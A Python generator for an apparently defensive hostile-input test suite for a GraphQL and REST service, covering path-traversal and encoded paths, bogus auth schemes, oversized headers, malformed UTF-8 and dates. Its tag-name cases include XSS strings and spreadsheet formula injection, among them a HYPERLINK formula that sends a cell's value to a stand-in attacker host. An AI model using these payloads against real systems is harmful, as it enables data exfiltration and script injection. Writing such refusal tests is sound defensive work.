#!/usr/bin/env python3
"""Generates round2.ndjson: the hostile-input families of issue 22, beyond /graphql's own body.

Same format as security.ndjson (see generate.py), plus:
  path      any path; {{SUBJECT}} and {{SCOPE}} are replaced by a stored subject and an open IMPORTED
            scope of SCJG that HostileInputIT creates before the run
  body      may hold {{HEX:c0af}}: those bytes as they are (e.g. UTF-8 that is not well-formed)
  payload   the mutation field whose errors[0].code must equal `code` (a refusal in the payload)
  token     also: no-exp (a correctly signed PLATFORM_ADMIN token without exp)
Re-run: python3 generate_round2.py
"""
import json
import os

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "round2.ndjson")
entries = []


def add(category, body=None, status=400, code=None, method="POST", path="/graphql", headers=None, token="none", name=None,
        payload=None):
    entry = {"id": f"r2-{category}-{len([e for e in entries if e['category'] == category]) + 1:03d}" + (f"-{name}" if name else ""),
             "category": category, "method": method, "path": path, "headers": headers or {}, "token": token,
             "body": body, "status": status, "code": code}
    if payload:
        entry["payload"] = payload
    entries.append(entry)


def gql(query, variables=None):
    body = {"query": query}
    if variables is not None:
        body["variables"] = variables
    return json.dumps(body, ensure_ascii=False)


ADMIN = "role:PLATFORM_ADMIN"
OPERATOR = "role:DEPT_OPERATOR:SCJG"
DEPT_ADMIN = "role:DEPT_ADMIN:SCJG"
VIEWER = gql("{ viewer { id } }")

# --- spellings of paths: what the container routes is what every filter sees ---------------------
add("path", VIEWER, 200, None, path="/%67raphql", name="encoded")
add("path", VIEWER, 200, None, path="/%67%72%61%70%68%71%6c", name="all-encoded")
for path in ["/GRAPHQL", "/Graphql", "/graphql/", "/graphql/x", "/graphql.json", "/nope", "/error", "/error/", "/api", "/export/",
             "/export/published-results.csv", "/scopes/x", "/api/subjects"]:
    add("path", VIEWER, 404, "NOT_FOUND", path=path, name=path.strip("/").replace("/", "_") or "root")
for path in ["//graphql", "/graphql;x=1", "/graphql;jsessionid=1", "/%2e%2e/graphql", "/./graphql", "/x/../graphql", "/graphql%2f",
             "/graphql%2F", "/%2fgraphql", "/graphql%00", "/graphql%5c", "/export//published-results.ndjson",
             "/api/subjects/import;x", "/scopes/x/codes;y", "/actuator;x/health"]:
    add("path-firewall", VIEWER, 400, "INVALID_REQUEST", path=path, name=path.replace("/", "_").replace("%", "").replace(";", "_"))
add("path", None, 404, "NOT_FOUND", method="GET", path="/error", name="get-error")
add("path", None, 404, "NOT_FOUND", method="GET", path="/favicon.ico", name="favicon")
add("path", None, 401, "UNAUTHENTICATED", method="GET", path="/actuator/metrics", name="metrics-anonymous")
add("path", None, 401, "UNAUTHENTICATED", method="GET", path="/actuator/env", name="env-anonymous")
add("path", None, 401, "UNAUTHENTICATED", method="GET", path="/actuator/nope", name="actuator-unknown-anonymous")

# --- methods and media types on the REST endpoints ----------------------------------------------
for method, path in [("DELETE", "/export/published-results.ndjson"), ("POST", "/export/published-results.ndjson"),
                     ("PUT", "/api/subjects/import"), ("GET", "/api/subjects/import"), ("DELETE", "/api/subjects/import"),
                     ("GET", "/scopes/{{SCOPE}}/codes"), ("PUT", "/scopes/{{SCOPE}}/codes"), ("PATCH", "/scopes/{{SCOPE}}/codes")]:
    add("rest-method", None if method in ("GET", "DELETE") else "x", 405, "METHOD_NOT_ALLOWED", method=method, path=path,
        token=OPERATOR, headers={"Content-Type": "text/plain"}, name=method + path.replace("/", "_").replace("{{SCOPE}}", "S"))
for ctype in ["application/json", "application/xml", "multipart/form-data; boundary=b", "application/x-www-form-urlencoded"]:
    add("rest-media-type", "91330109MA2GXXXXXX\n", 415, "UNSUPPORTED_MEDIA_TYPE", path="/scopes/{{SCOPE}}/codes", token=OPERATOR,
        headers={"Content-Type": ctype}, name=ctype.split(";")[0].replace("/", "_"))
for ctype in ["application/json", "multipart/form-data; boundary=b", "text/plain", "application/xml"]:
    add("rest-media-type", "{}", 415, "BAD_USER_INPUT", path="/api/subjects/import", token=OPERATOR,
        headers={"Content-Type": ctype}, name="import-" + ctype.split(";")[0].replace("/", "_"))
for q in ["from=2026-02-30", "to=yesterday", "from=+999999999-12-31x", "from=2026-13-01"]:
    add("rest-parameter", None, 400, "BAD_USER_INPUT", method="GET", path="/export/published-results.ndjson?" + q, name=q.split("=")[0])

# --- uploads: the public is refused before any body is read -------------------------------------
MULTIPART = "--b\r\n\r\nx\r\n--b--\r\n"
for path in ["/api/subjects/import", "/scopes/x/codes", "/scopes/{{SCOPE}}/codes", "/%61pi/subjects/import"]:
    for ctype in ["multipart/form-data; boundary=b", "multipart/form-data", "multipart/mixed; boundary=b", "text/csv", "text/plain"]:
        add("upload-anonymous", MULTIPART, 401, "UNAUTHENTICATED", path=path, headers={"Content-Type": ctype},
            name=path.replace("/", "_").replace("{{SCOPE}}", "S") + "-" + ctype.split(";")[0].replace("/", "_"))
add("upload-anonymous", "{{REPEAT:a:2000000}}", 401, "UNAUTHENTICATED", path="/api/subjects/import",
    headers={"Content-Type": "multipart/form-data; boundary=b"}, name="2MB")
add("upload-forbidden", "91330109MA2GXXXXXX\n", 403, "FORBIDDEN", path="/scopes/{{SCOPE}}/codes", token="role:DEPT_OPERATOR:WSJK",
    headers={"Content-Type": "text/plain"}, name="other-department")
add("upload-forbidden", "{}\n", 403, "FORBIDDEN", path="/api/subjects/import", token="role:INSPECTOR:SCJG",
    headers={"Content-Type": "application/x-ndjson"}, name="inspector")

# --- oversized and odd headers ------------------------------------------------------------------
add("headers", VIEWER, 400, "INVALID_REQUEST", headers={"X-Big": "a" * 20000}, name="20KB-header")
add("headers", VIEWER, 400, "INVALID_REQUEST", headers={f"X-H{i}": "b" * 200 for i in range(100)}, name="100-headers-20KB")
add("headers", None, 400, "INVALID_REQUEST", method="GET", path="/graphql?query=" + "a" * 20000, name="20KB-query-string")

# --- credentials --------------------------------------------------------------------------------
for value in ["Basic YTpi", "Basic", "Digest username=\"a\"", "Token abc", "ApiKey ", "ApiKey", "Bearer", "Bearer  x", "bearer",
              "Negotiate YII=", "NTLM TlRMTVNTUAAB", "AWS4-HMAC-SHA256 Credential=x", "x", "Bearer a b", "ApiKey a.b"]:
    add("authorization-scheme", VIEWER, 401, "UNAUTHENTICATED", headers={"Authorization": value},
        name=value.split(" ")[0].lower() + ("-empty" if value.strip() == value.split(" ")[0] else ""))
for path in ["/api/subjects/import", "/scopes/{{SCOPE}}/codes"]:
    add("authorization-scheme", "x", 401, "UNAUTHENTICATED", path=path, headers={"Authorization": "Basic YTpi", "Content-Type": "text/plain"},
        name="basic" + path.replace("/", "_").replace("{{SCOPE}}", "S"))
add("authorization-scheme", None, 401, "UNAUTHENTICATED", method="GET", path="/export/published-results.ndjson",
    headers={"Authorization": "Basic YTpi"}, name="basic-export")
for query, name in [("{ viewer { id } }", "viewer"), ("{ apiKeys { id } }", "apiKeys"), ("mutation { ping }", "ping")]:
    add("token", gql(query), 401, "UNAUTHENTICATED", token="no-exp", name="no-exp-" + name)

# --- internals in answers -----------------------------------------------------------------------
for query in ["subscription { scopeJobProgress(id: \"x\") { status } }", "subscription S { scopeJobProgress(id: \"{{SCOPE}}\") { status } }"]:
    add("subscription-over-http", gql(query), 400, "INVALID_REQUEST", token=OPERATOR)
add("subscription-over-http", None, 405, "METHOD_NOT_ALLOWED", method="GET", token=OPERATOR,
    path="/graphql?query=subscription%20%7B%20scopeJobProgress(id%3A%20%22x%22)%20%7B%20status%20%7D%20%7D", name="get")
for query in ["{ auditLog(filter: {nope: {deep: [1, {x: \"y\"}]}}) { totalCount } }",
              "{ subjects(first: 1, filter: {nope: 1}) { totalCount } }",
              "{ subjects(first: 1, filter: {regionCodes: {a: 1}}) { totalCount } }",
              "{ inspectors(first: 1, filter: {certificateOn: {y: 2026}}) { totalCount } }",
              "{ workingDay(date: {y: 2026}) { date } }",
              "{ workingDay(date: [\"2026-01-01\"]) { date } }"]:
    add("validation-ast", gql(query), 200, "GRAPHQL_VALIDATION_FAILED", token=ADMIN)

# --- strict input -------------------------------------------------------------------------------
for date in ["2026-02-30", "2026-02-29", "2025-04-31", "2026-13-01", "2026-00-10", "2026-1-5", "+999999999-12-31", "-000001-01-01",
             "99999-01-01", "2026-01-01T00:00:00Z", "20260101", "2026/01/01", " 2026-01-01", "２０２６-01-01", "2026-01-01\u0000"]:
    add("date", gql("{ workingDay(date: \"%s\", plus: 5) { date } }" % date.replace("\u0000", "\\u0000")), 200,
        "GRAPHQL_VALIDATION_FAILED", name="literal")
    add("date", gql("query($d: Date!) { workingDay(date: $d, plus: 5) { date } }", {"d": date}), 200, "GRAPHQL_VALIDATION_FAILED",
        name="variable")
# the answer would fall outside the four-digit years the Date scalar writes: refused, not "+10013-12-27"
add("date", gql("{ workingDay(date: \"9999-12-31\", plus: 3650) { date } }"), 200, "BAD_USER_INPUT", name="last-year")
add("date", gql("{ workingDay(date: \"0001-01-01\", plus: -3650) { date } }"), 200, "BAD_USER_INPUT", name="first-year")
add("date", gql("{ inspectors(first: 2, filter: {certificateOn: \"2026-12-01\"}) { totalCount edges { cursor } } }"), 200, None,
    token=ADMIN, name="certificateOn")
for hexbytes, name in [("c0af", "overlong-slash"), ("e080af", "overlong-3"), ("f08080af", "overlong-4"), ("eda080", "surrogate"),
                       ("ff", "ff"), ("c3", "truncated"), ("f4908080", "above-u10ffff"), ("80", "continuation")]:
    add("utf8", '{"query":"{ viewer { id {{HEX:%s}} } }"}' % hexbytes, 400, "INVALID_REQUEST", name=name)
    add("utf8", '{"query":"{ viewer { id } }","variables":{"x":"a{{HEX:%s}}"}}' % hexbytes, 400, "INVALID_REQUEST", name=name + "-variable")

# --- length limits ------------------------------------------------------------------------------
LONG = "{{REPEAT:名:100000}}"
SCOPE_INPUT = "mutation($in: CreateScopeInput!) { createScope(input: $in) { scope { id } errors { code } } }"
add("length", '{"query":"%s","variables":{"in":{"name":"%s","department":"SCJG","kind":"IMPORTED"}}}' % (SCOPE_INPUT, LONG), 200,
    "BAD_USER_INPUT", token=OPERATOR, name="scope-name")
add("length", '{"query":"%s","variables":{"in":{"name":"x","department":"SCJG","kind":"SPECIAL_LIST","specialList":"%s"}}}'
    % (SCOPE_INPUT, LONG), 200, "INVALID_VALUE", token=OPERATOR, name="scope-list", payload="createScope")
add("length", '{"query":"%s","variables":{"in":{"id":"%s","name":"x","department":"SCJG","kind":"IMPORTED"}}}'
    % (SCOPE_INPUT, "{{REPEAT:a:81}}"), 200, "BAD_USER_INPUT", token=OPERATOR, name="scope-id")
add("length", '{"query":"mutation($n: String!) { createPlan(year: 2026, department: \\"SCJG\\", name: $n) { id } }","variables":{"n":"%s"}}'
    % LONG, 200, "BAD_USER_INPUT", token=DEPT_ADMIN, name="plan-name")
add("length", gql("mutation($n: String!) { createPlan(year: 2026, department: \"SCJG\", name: $n) { id } }", {"n": "a\u0000b"}), 200,
    "BAD_USER_INPUT", token=DEPT_ADMIN, name="plan-name-nul")
TASK = "mutation($in: CreateTaskInput!) { createTask(input: $in) { task { id } errors { code } } }"
add("length", '{"query":"%s","variables":{"in":{"name":"%s","leadDepartment":"SCJG","level":"DISTRICT","parts":[{"department":"SCJG","itemCodes":["SCJG-002"]}]}}}'
    % (TASK, LONG), 200, "INVALID_NAME", token=OPERATOR, name="task-name", payload="createTask")
TAGS = "mutation($in: SetSubjectTagsInput!) { setSubjectTags(input: $in) { subject { code } errors { code } } }"
for tag, code in [("{{REPEAT:标:33}}", "TOO_LONG"), ("=HYPERLINK(\\\"http://e.x/\\\",\\\"点\\\")", "INVALID_VALUE"),
                  ("=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"点击\\\")", "TOO_LONG"),
                  ("+1", "INVALID_VALUE"), ("-1", "INVALID_VALUE"), ("@SUM(A1)", "INVALID_VALUE"), ("<script>alert(1)</script>", "INVALID_VALUE"),
                  ("<b>x</b>", "INVALID_VALUE"), ("a\\\"b", "INVALID_VALUE"), ("a:b", "INVALID_VALUE"), ("a\\u0000b", "CONTROL_CHARACTER"),
                  ("a\\u0007", "CONTROL_CHARACTER"), ("\\ud800", "CONTROL_CHARACTER")]:
    add("tag-name", '{"query":"%s","variables":{"in":{"code":"{{SUBJECT}}","department":"SCJG","add":[{"name":"%s"}]}}}' % (TAGS, tag),
        200, code, token=OPERATOR, payload="setSubjectTags", name=code.lower())
RULE = "mutation($in: TagRuleInput!) { saveTagRule(input: $in) { rule { id } errors { code } } }"
for field, values in [("regionCodes", ["<script>alert(1)</script>"]), ("regionCodes", ["*"]), ("regionCodes", ["33"]),
                      ("regionCodes", ["3301090010010"]), ("departmentRisks", ["*:*"]), ("departmentRisks", ["WSJK:E"]),
                      ("departmentRisks", ["wsjk:c"]), ("departmentRisks", ["WSJK"]), ("supervisingUnits", ["a\u0000"]),
                      ("supervisingUnits", ["x" * 101]), ("licences", ["<b>"]), ("licences", ["food"]), ("regionCodes", ["330109"] * 1001)]:
    add("tag-rule", gql(RULE, {"in": {"department": "SCJG", "tagName": "规则", "condition": {field: values}}}), 200,
        "TOO_MANY_VALUES" if len(values) > 1000 else "INVALID_VALUE", token=DEPT_ADMIN, payload="saveTagRule", name=field)
for name, code in [("<img src=x>", "INVALID_VALUE"), ("=1+1", "INVALID_VALUE"), ("x" * 33, "TOO_LONG")]:
    add("tag-rule", gql(RULE, {"in": {"department": "SCJG", "tagName": name, "condition": {"kinds": ["ORGANISATION"]}}}), 200, code,
        token=DEPT_ADMIN, payload="saveTagRule", name="tagName")

# --- imports without a usable header or body are refused before anything is written ------------
add("import-refused", "code\n91330109MA2GXXXXXX\n", 415, "BAD_USER_INPUT", path="/api/subjects/import", token=OPERATOR,
    headers={"Content-Type": "text/csv; charset=iso-8859-1"}, name="charset")

with open(OUT, "w", encoding="utf-8") as out:
    for entry in entries:
        out.write(json.dumps(entry, ensure_ascii=True) + "\n")
print(f"{len(entries)} entries -> {OUT}")
